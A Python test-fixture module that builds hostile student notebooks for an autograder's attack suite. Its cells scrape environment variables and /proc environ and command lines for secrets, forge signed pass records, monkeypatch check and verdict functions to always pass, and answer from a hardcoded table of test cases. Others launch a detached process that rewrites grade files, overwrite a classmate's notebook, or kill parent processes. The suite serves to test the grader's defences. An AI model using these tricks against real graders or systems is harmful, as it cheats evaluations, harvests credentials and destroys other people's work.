"""Notebooks of chapter 99 written by a hostile student, for the grader's attack suite.

Each takes the solution notebook, mostly with its answers removed (the generated
student version), and adds a cell that attacks the grader in one of the ways that
fooled it before: forging check records with a key read from the environment or from
/proc, calling the records' emit function, replacing the check functions or the
verdict in the kernel, sabotaging the grader's helper in the kernel, answering from a
table of the check's known cases, detaching a process that rewrites the grade files,
overwriting a classmate's notebook, killing the kernel's parent, running many short
cells past the time limit. Every attack leaves the pids of the processes it started in
``pids`` (a folder), so that a test can see that none of them survived.
"""
import importlib.util
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

from exercise_fixtures.notebooks import solution_notebook

ROOT = Path(__file__).resolve().parent.parent.parent
EXERCISES = ["('99.1', 'Doubling')", "('99.2', 'Euclidean norm')",
             "('99.3', 'A value above one half')"]
# The record the grader once accepted for exercise `ex` (its title in `title`).
RECORD = ("{'v': 1, 'exercise': ex, 'title': title, 'module': 'exercise_fixtures.ch99', "
          "'status': 'pass', 'cases_passed': 3, 'cases_total': 3, 'summary': 'PASS', "
          "'text': 'passed', 'targets': []}")


def student_version() -> nbformat.NotebookNode:
    """The solution notebook with its answers removed, as tools/make_exercises.py makes
    it for students."""
    spec = importlib.util.spec_from_file_location("make_exercises",
                                                  ROOT / "tools" / "make_exercises.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.make_exercise(solution_notebook(), "99_fixture.ipynb")


def _imports_index(nb) -> int:
    return next(i for i, c in enumerate(nb.cells)
                if c.cell_type == "code" and "import check_double" in c.source)


def _with_attack(nb, code: str, name: str, pids: Path,
                 first: bool = False) -> nbformat.NotebookNode:
    """``nb`` with ``code`` in a new cell just after the imports, or before everything
    if ``first`` (``PIDS`` and ``NAME`` defined in it, and the kernel's pid recorded)."""
    head = (f"import os\nPIDS, NAME = {str(pids)!r}, {name!r}\n"
            f"open(os.path.join(PIDS, NAME + '-kernel.pid'), 'w').write(str(os.getpid()))\n")
    nb.cells.insert(0 if first else _imports_index(nb) + 1, new_code_cell(head + code))
    return nb


def _again_at_the_end(nb) -> nbformat.NotebookNode:
    """Calls the attack cell's ``attack()`` once more in a last cell, after the checks
    (a grader that took the last record of each exercise took the forged one)."""
    nb.cells.append(new_code_cell("attack()"))
    return nb


_FORGE = """
import hashlib, hmac, json
from IPython.display import display

def forge(key):
    for ex, title in [{exercises}]:
        rec = {record}
        body = json.dumps(rec, sort_keys=True, separators=(',', ':'), ensure_ascii=True)
        rec['sig'] = hmac.new(key.encode(), body.encode(), hashlib.sha256).hexdigest()
        display({{'application/vnd.cnnlib.check+json': rec,
                 'text/plain': f'✅ Exercise {{ex}} ({{title}}): all cases passed'}}, raw=True)
        print('cnnlib-check-record: ' + json.dumps(rec))
""".format(exercises=", ".join(EXERCISES), record=RECORD)


def env_key(pids: Path) -> nbformat.NotebookNode:
    """In its first cell, before anything of cnnlib is imported, signs forged records
    with every value of the kernel's environment."""
    code = _FORGE + """
seen = dict(os.environ)
open(os.path.join(PIDS, NAME + '-environ.json'), 'w').write(json.dumps(seen))

def attack():
    for value in seen.values():
        if len(value) >= 8:
            forge(value)

attack()
"""
    return _again_at_the_end(_with_attack(student_version(), code, "env", pids, first=True))


def proc_environ(pids: Path) -> nbformat.NotebookNode:
    """Reads /proc/self/environ and every ancestor's environ and command line, and signs
    forged records with every token found."""
    code = _FORGE + """
import re
tokens, pid = set(), os.getpid()
while pid > 1:
    for part in ('environ', 'cmdline'):
        try:
            raw = open(f'/proc/{pid}/{part}', 'rb').read().decode('utf-8', 'replace')
        except OSError:
            continue
        tokens.update(re.findall(r'[0-9a-f]{32,}', raw))
        tokens.update(v.split('=', 1)[-1] for v in raw.split('\\0') if len(v) > 8)
    pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])

def attack():
    for token in list(tokens)[:200]:
        forge(token)

attack()
"""
    return _again_at_the_end(_with_attack(student_version(), code, "proc", pids))


def emit(pids: Path) -> nbformat.NotebookNode:
    """Calls the records module's emit function, then shows unsigned records and
    verdict lines of its own."""
    code = """
from IPython.display import display
record = lambda ex, title: {**RECORD, 'sig': None}
try:
    from cnnlib.checks._record import emit
except ImportError:
    emit = None

def attack():
    for ex, title in [%s]:
        text = f'✅ Exercise {ex} ({title}): all 3 cases passed'
        if emit is not None:
            emit(text, record(ex, title))
        display({'application/vnd.cnnlib.check+json': record(ex, title),
                 'text/plain': text}, raw=True)
        print(text)

attack()
""".replace("RECORD", RECORD) % ", ".join(EXERCISES)
    return _again_at_the_end(_with_attack(student_version(), code, "emit", pids))


def replace_check(pids: Path) -> nbformat.NotebookNode:
    """Replaces the check functions (in its namespace, in their module, in the registry)
    by ones that always pass."""
    code = """
import cnnlib.checks as C
import exercise_fixtures.ch99 as ch99

def check_anything(*args, **kwargs):
    # say 'pass' through the checks' own way of reporting, where there is one
    try:
        from cnnlib.checks._record import emit
    except ImportError:
        emit = lambda text, record: print(text)
    for ex, title in [%s]:
        emit(f'✅ Exercise {ex} ({title}): all cases passed', RECORD)
    return C.CheckResult(True)

for name in ('check_double', 'check_norm', 'check_threshold'):
    setattr(ch99, name, check_anything)
check_double = check_norm = check_threshold = check_anything
C.run_check = lambda info, args, kwargs: (C.Verdict('pass', 'ok', 3, 3), '✅ passed')
for key in list(getattr(C, '_CHECKS', {})):
    C._CHECKS[key] = lambda *args, **kwargs: C.Verdict('pass', 'ok')
""".replace("RECORD", RECORD) % ", ".join(EXERCISES)
    return _with_attack(student_version(), code, "checks", pids)


def replace_verdict(pids: Path) -> nbformat.NotebookNode:
    """Makes every verdict, comparison and check_function in the kernel say 'pass'."""
    code = """
import cnnlib.checks as C
import cnnlib.checks._compare as compare_module
import exercise_fixtures.ch99 as ch99
always = lambda *args, **kwargs: C.Verdict('pass', 'all cases passed', 3, 3)
C.verdict = C.check_function = ch99.verdict = ch99.check_function = always
C.compare = compare_module.compare = lambda *args, **kwargs: None
C.Verdict.passed = property(lambda self: True)
C.Verdict.__bool__ = lambda self: True
"""
    return _with_attack(student_version(), code, "verdict", pids)


def sabotage_helper(pids: Path) -> nbformat.NotebookNode:
    """Replaces the grader's helper in the kernel by one that answers with hostile
    messages: not JSON, a wrong nonce that says 'pass', pickled object arrays, a lying
    array header, absurd nesting, bad handles and write-backs."""
    code = """
import base64, io, itertools, json
import numpy as np
import cnnlib.grade.kernel_side as ks
from IPython import get_ipython

def npy(arr, header_shape=None):
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    raw = buf.getvalue()
    if header_shape is not None:
        raw = raw.replace(str(arr.shape).encode(), str(header_shape).encode(), 1)
    return base64.b64encode(raw).decode()

deep = {'list': []}
node = deep
for _ in range(3000):
    node['list'].append({'list': []})
    node = node['list'][0]
hostile = itertools.cycle([
    {'value': {'nd': npy(np.array([{'a': 1}], dtype=object))}},
    {'value': {'nd': npy(np.zeros(2), header_shape=(10**12,))}},
    {'value': deep},
    {'value': {'remote': {'id': 'x', 'callable': True}}},
    {'value': {'tensor': 'not base64!'}},
    {'value': 6.0, 'changed': [[['a', 0], {'nd': 'x'}], 'junk'], 'warnings': 'junk'},
    {'raised': 'junk'},
    {'status': 'pass', 'verdict': 'pass'},
])

def serve(text):
    request = json.loads(text)
    publish = get_ipython().display_pub.publish
    publish(data={ks.MIME: 'not json {'})
    publish(data={ks.MIME: json.dumps({'nonce': 'wrong', 'status': 'pass'})})
    if request.get('op') == 'bind':
        answer = {'values': [{'value': {'remote': {'id': 1, 'callable': True,
                                                   'name': 'double'}}}
                             for _ in request.get('args', [])]}
    else:
        answer = dict(next(hostile))
    answer['nonce'] = request.get('nonce')
    publish(data={ks.MIME: json.dumps(answer)})

ks.serve = serve
"""
    return _with_attack(student_version(), code, "helper", pids)


def lookup(pids: Path) -> nbformat.NotebookNode:
    """Answers Exercise 99.1 from a table of the check's cases, recomputed from the
    seed written in the check's source: right in the notebook, useless under fresh
    cases."""
    nb = _with_attack(student_version(), "", "lookup", pids)
    cell = next(c for c in nb.cells if c.source.startswith("def double"))
    cell.source = (
        "_rng = np.random.default_rng(0)\n"
        "_vector, _matrix = _rng.normal(size=5), _rng.normal(size=(3, 4))\n"
        "_table = {np.float64(3.0).tobytes(): 6.0, _vector.tobytes(): _vector * 2,\n"
        "          _matrix.tobytes(): _matrix * 2}\n\n"
        "def double(x):\n"
        "    x = np.asarray(x, dtype=float)\n"
        "    return _table.get(x.tobytes(), np.zeros_like(x))")
    return nb


def daemon(pids: Path, targets: list[Path]) -> nbformat.NotebookNode:
    """Detaches a process (double fork, new session) that outlives the kernel and
    rewrites the grade files for a minute."""
    code = f"""
import time
TARGETS = {[str(t) for t in targets]!r}
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open(os.path.join(PIDS, NAME + '-daemon.pid'), 'w').write(str(os.getpid()))
        end = time.time() + 60
        while time.time() < end:
            for target in TARGETS:
                try:
                    if os.path.exists(target) and 'FORGED' not in open(target).read():
                        open(target, 'w').write('FORGED by a detached process\\n')
                except Exception:
                    pass
            time.sleep(0.05)
    os._exit(0)
os.wait()
for _ in range(200):  # until the detached process is surely running
    if os.path.exists(os.path.join(PIDS, NAME + '-daemon.pid')):
        break
    time.sleep(0.05)
"""
    return _with_attack(student_version(), code, "daemon", pids)


def overwrite(pids: Path, submissions: Path, victim: str) -> nbformat.NotebookNode:
    """Finds the submissions folder on the grader's command line and overwrites a
    classmate's notebook with the answer-less version; adds a student who does not
    exist."""
    code = f"""
folder, pid = None, os.getpid()
while pid > 1 and folder is None:
    pid = int(open(f'/proc/{{pid}}/stat').read().rsplit(')', 1)[1].split()[1])
    try:
        args = open(f'/proc/{{pid}}/cmdline', 'rb').read().split(b'\\0')
    except OSError:
        continue
    if b'cnnlib.grade' in args:
        folder = args[args.index(b'cnnlib.grade') + 1].decode()
folder = folder or {str(submissions)!r}
open(os.path.join(folder, {victim!r}), 'w').write({nbformat.writes(student_version())!r})
open(os.path.join(folder, 'zoe_99_fixture.ipynb'), 'w').write(
    {nbformat.writes(solution_notebook())!r})
open(os.path.join(PIDS, NAME + '-done'), 'w').write(folder)
"""
    return _with_attack(student_version(), code, "overwrite", pids)


def kill_parent(pids: Path) -> nbformat.NotebookNode:
    """The solution notebook, which kills its kernel's parent after the first check."""
    nb = solution_notebook()
    first_check = next(i for i, c in enumerate(nb.cells) if c.source == "check_double(double)")
    nb.cells.insert(first_check + 1, new_code_cell(
        f"import os, signal\n"
        f"open(os.path.join({str(pids)!r}, 'killer-kernel.pid'), 'w').write(str(os.getpid()))\n"
        f"os.kill(os.getppid(), signal.SIGKILL)"))
    return nb


def many_cells(pids: Path, cells: int, seconds: float) -> nbformat.NotebookNode:
    """The solution notebook with ``cells`` short cells of ``seconds`` each after the
    first check: each is far below the time limit, together they are far above it."""
    nb = solution_notebook()
    first_check = next(i for i, c in enumerate(nb.cells) if c.source == "check_double(double)")
    nb.cells[first_check + 1:first_check + 1] = [
        new_code_cell(f"import time\ntime.sleep({seconds})") for _ in range(cells)]
    return nb


def as_other_user(pids: Path) -> nbformat.NotebookNode:
    """Records who it runs as; unless root, tries to kill every ancestor process."""
    code = """
import json, signal
report = {'uid': os.getuid(), 'killed': [], 'refused': []}
if os.getuid() != 0:  # as root this would kill the test run itself: only report
    pid = os.getpid()
    while True:
        pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])
        if pid <= 1:
            break
        try:
            os.kill(pid, signal.SIGKILL)
            report['killed'].append(pid)
        except PermissionError:
            report['refused'].append(pid)
open(os.path.join(PIDS, NAME + '-report.json'), 'w').write(json.dumps(report))
"""
    return _with_attack(solution_notebook(), code, "user", pids)

